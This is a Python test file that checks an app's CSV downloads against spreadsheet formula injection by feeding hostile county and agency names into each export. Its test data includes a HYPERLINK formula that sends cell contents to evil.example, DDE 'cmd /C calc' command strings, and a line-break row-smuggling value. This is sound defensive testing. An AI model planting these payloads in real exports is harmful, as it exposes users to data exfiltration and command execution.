"""Every CSV the app offers is safe to open in a spreadsheet: each download button that hands out a CSV is found in
the code (app_pages/, lib/, app.py), and each producer behind one is fed hostile agency and county names, which
must come out as text (a leading ') while numbers stay numbers."""

import ast
import dataclasses
import io
from collections.abc import Callable
from itertools import cycle
from pathlib import Path

import pandas as pd
import pytest

from lib import exports, history, methodchange
from lib.evidence import CountyEvidence
from lib.layers import build_layers

PROJECT_ROOT = Path(__file__).resolve().parent.parent
PAGE_CODE = [
    PROJECT_ROOT / "app.py",
    *sorted((PROJECT_ROOT / "app_pages").glob("*.py")),
    *sorted((PROJECT_ROOT / "lib").rglob("*.py")),
]
# What a spreadsheet could run: a link that sends the row away, a command, and every other formula trigger.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Sheriff")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A line break inside a name: unquoted, it would start a new row whose first cell is a formula.
BROKEN_LINE = "Sheriff\r=1+1\n@SUM(1+1)"
HOSTILE_NAMES = [*FORMULAS, BROKEN_LINE]


def hostile(names: pd.Series) -> pd.Series:
    """The same rows, each named after one of HOSTILE_NAMES in turn."""
    return pd.Series([name for name, _row in zip(cycle(HOSTILE_NAMES), names)], index=names.index)


def county_table_csv(data) -> bytes:
    counties = data.counties.assign(name=hostile(data.counties["name"]))
    hostile_evidence = CountyEvidence.assemble(dataclasses.replace(data, counties=counties))
    return exports.county_table_csv(hostile_evidence, build_layers(hostile_evidence))


def state_laws_csv(data) -> bytes:
    laws = data.state_laws.assign(
        law_name=hostile(data.state_laws["law_name"]), quote=hostile(data.state_laws["quote"])
    )
    return exports.state_laws_csv(dataclasses.replace(data, state_laws=laws))


def changes_csv(data) -> str:
    agreements = data.agreement_history.assign(
        agency=hostile(data.agreement_history["agency"]), earlier_names=hostile(data.agreement_history["agency"])
    )
    dates = history.snapshot_dates(data.snapshot_counts)
    changes = history.changes_between(agreements, dates[0], dates[-1])
    return history.changes_csv(changes, data.counties.assign(name=hostile(data.counties["name"])), data.snapshot_counts)


def method_changes_csv(data) -> bytes:
    changes = methodchange.method_changes()
    return methodchange.method_changes_csv(changes.assign(county=hostile(changes["county"])))


# Each producer of a CSV download, as the download button calls it, with the hostile data it is tested on.
CSV_PRODUCERS: dict[str, Callable] = {
    "exports.county_table_csv": county_table_csv,
    "history.changes_csv": changes_csv,
    "exports.state_laws_csv": state_laws_csv,
    "method_changes_csv": method_changes_csv,
}


def is_csv(download: ast.Call) -> bool:
    options = {keyword.arg: keyword.value for keyword in download.keywords}
    mime = options.get("mime")
    if isinstance(mime, ast.Constant) and mime.value == "text/csv":
        return True
    file_name = options.get("file_name")
    return file_name is not None and ast.unparse(file_name).rstrip("'\"").endswith(".csv")


def producer(download: ast.Call) -> str:
    """The function whose result a download hands out (data=, or the second argument; a lambda's body counts)."""
    options = {keyword.arg: keyword.value for keyword in download.keywords}
    content = options.get("data", download.args[1] if len(download.args) > 1 else None)
    calls = [node for node in ast.walk(content) if isinstance(node, ast.Call)]
    return ast.unparse(calls[0].func if calls else content)


def csv_downloads() -> list[tuple[str, str]]:
    """(file:line, producer) of every download button in the code that hands out a CSV."""
    found = []
    for path in PAGE_CODE:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
                and is_csv(node)
            ):
                found.append((f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}", producer(node)))
    return found


def test_every_csv_download_is_tested_with_hostile_names():
    downloads = csv_downloads()
    untested = [(place, name) for place, name in downloads if name not in CSV_PRODUCERS]
    assert not untested, f"CSV downloads without a hostile-names test: add them to CSV_PRODUCERS: {untested}"
    assert {name for _place, name in downloads} == set(CSV_PRODUCERS), "a producer here no longer has a button"


def read_csv(content: str | bytes) -> pd.DataFrame:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", CSV_PRODUCERS)
def test_hostile_names_reach_the_csv_as_text(data, name):
    table = read_csv(CSV_PRODUCERS[name](data))
    cells = table.to_numpy().ravel()
    assert {"'" + formula for formula in FORMULAS} | {BROKEN_LINE} <= set(cells), "every hostile name, as text"
    runnable = [cell for cell in cells if cell.startswith(exports.FORMULA_TRIGGERS) and not is_number(cell)]
    assert runnable == []


def test_numbers_are_never_altered(data):
    """Only text is quoted: the county table's population stays an integer column, equal to the data's."""
    table = pd.read_csv(io.BytesIO(county_table_csv(data)), encoding="utf-8-sig", dtype={"fips": str})
    assert pd.api.types.is_integer_dtype(table["population"])
    expected = data.counties_by_fips.loc[table["fips"], "population"].to_numpy()
    assert (table["population"].to_numpy() == expected).all()


def test_negative_numbers_stay_numbers():
    table = pd.DataFrame({"change": [-3, 2], "share": [-0.5, 1.0]})
    assert exports.csv_text(table) == "change,share\r\n-3,-0.5\r\n2,1.0\r\n"
